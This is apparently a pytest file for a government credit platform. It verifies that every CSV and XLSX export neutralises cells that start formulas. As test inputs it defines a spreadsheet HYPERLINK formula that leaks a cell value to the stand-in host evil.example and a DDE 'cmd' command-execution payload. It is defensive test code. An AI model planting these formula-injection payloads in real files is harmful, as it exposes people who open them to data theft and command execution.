"""Issue 29, finding 6: every CSV and XLSX the platform writes neutralises cells that would start a formula, through
the one helper in ``core/downloads.py``."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update
from tests.commitments.support import ACTOR, CIPHER
from tests.helpers import login, make_user
from tests.ingestion.samples import row, write_csv

from xinyong.core.clock import FixedClock
from xinyong.core.db import Database
from xinyong.core.downloads import FORMULA_TRIGGERS, csv_text, neutralise_csv
from xinyong.exchange import service as exchange
from xinyong.exchange.models import ExchangeBatch
from xinyong.ingestion import service as ingestion_service
from xinyong.oversight import assessment
from xinyong.oversight import service as oversight
from xinyong.subjects.models import Department

SRC = Path(__file__).resolve().parents[2] / "src" / "xinyong"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
CMD = "+cmd|' /C calc'!A0"


def _cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


def _penalties_with_formulas(db: Database, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "f.csv", [row(1, CF_SY=LINK, CF_WFXW=CMD), row(2, CF_FRDB="@SUM(1+1)")])
    ingestion_service.ingest_file(db, path=path, kind="penalty", department_code="scjg", actor=ACTOR, cipher=CIPHER)


def test_the_upward_report_csv_neutralises_formulas(
    client: TestClient, db: Database, tmp_path: Path, clock: FixedClock
) -> None:
    _penalties_with_formulas(db, tmp_path)
    policy = exchange.DestinationPolicy(root=tmp_path)
    with db.session() as s:
        values = {"code": "PROV", "name": "省平台", "kind": "directory", "directory": "prov", "types": "penalty"}
        exchange.save_destination(s, values=values, actor=ACTOR, policy=policy)
    (report,) = exchange.push(db, destination="PROV", actor=ACTOR, policy=policy)
    assert report.delivered == 1, report.summary()
    number = "230382-PROV-00000001"
    make_user(db, "xyb", "admin")
    login(client, "xyb")
    text = client.get(f"/console/exchange/batches/{number}/{number}.penalty.csv").text
    cells = _cells(text)
    assert "'" + LINK in cells and "'" + CMD in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    delivered = (tmp_path / "prov" / "out" / f"{number}.penalty.csv").read_bytes().decode()
    assert delivered == text  # what the receiving office opens is neutralised too, byte for byte the same

    # a batch stored before the fix (raw cells) is neutralised on download
    raw = text.replace("'" + LINK, LINK.replace('"', '""')).replace("'" + CMD, CMD)
    assert LINK.replace('"', '""') in raw
    with db.session() as s:
        s.execute(update(ExchangeBatch).values(csv_files={f"{number}.penalty.csv": raw}))
    again = _cells(client.get(f"/console/exchange/batches/{number}/{number}.penalty.csv").text)
    assert "'" + LINK in again and not [c for c in again if c.startswith(FORMULA_TRIGGERS)]


def test_the_csv_helper_is_idempotent_and_leaves_numbers_alone() -> None:
    text = csv_text([["a", LINK, -5, "密市监罚〔2026〕1号"]])
    assert text == neutralise_csv(text) and _cells(text) == ["a", "'" + LINK, "-5", "密市监罚〔2026〕1号"]


def test_the_error_workbook_neutralises_what_the_submitter_wrote(db: Database, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "bad.csv", [row(1, CF_JDRQ="=1+1"), row(2, CF_XDR_SHXYM=CMD)])
    batch_id = ingestion_service.ingest_file(
        db, path=path, kind="penalty", department_code="scjg", actor=ACTOR, cipher=CIPHER
    )
    with db.session() as s:
        out = ingestion_service.write_error_report(s, batch_id, tmp_path / "errors.xlsx")
    values = [v for r in load_workbook(out).active.iter_rows(values_only=True) for v in r if isinstance(v, str)]
    assert "'=1+1" in values and "'" + CMD in values
    assert not [v for v in values if v.startswith(FORMULA_TRIGGERS)]


def test_the_assessment_workbook_neutralises_department_names(db: Database, clock: FixedClock) -> None:
    with db.session() as s:
        s.execute(update(Department).where(Department.code == "scjg").values(name=LINK))
    with db.session() as s:
        data = assessment.workbook_bytes(s, oversight.period(2026))
    wb = load_workbook(io.BytesIO(data))
    values = [v for ws in wb for r in ws.iter_rows(values_only=True) for v in r if isinstance(v, str)]
    assert "'" + LINK in values and not [v for v in values if v.startswith(FORMULA_TRIGGERS)]


def test_every_csv_and_worksheet_writer_goes_through_the_helper() -> None:
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "downloads.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(f"{path.relative_to(SRC)}: csv writer (use core.downloads.csv_text)")
        if "openpyxl" in text and re.search(r"\b\w+\.append\(", text):
            sheets = re.findall(r"\b(ws\w*|sheet\w*)\.append\(", text)
            if sheets:
                offenders.append(f"{path.relative_to(SRC)}: worksheet append (use core.downloads.sheet_append)")
    assert offenders == []
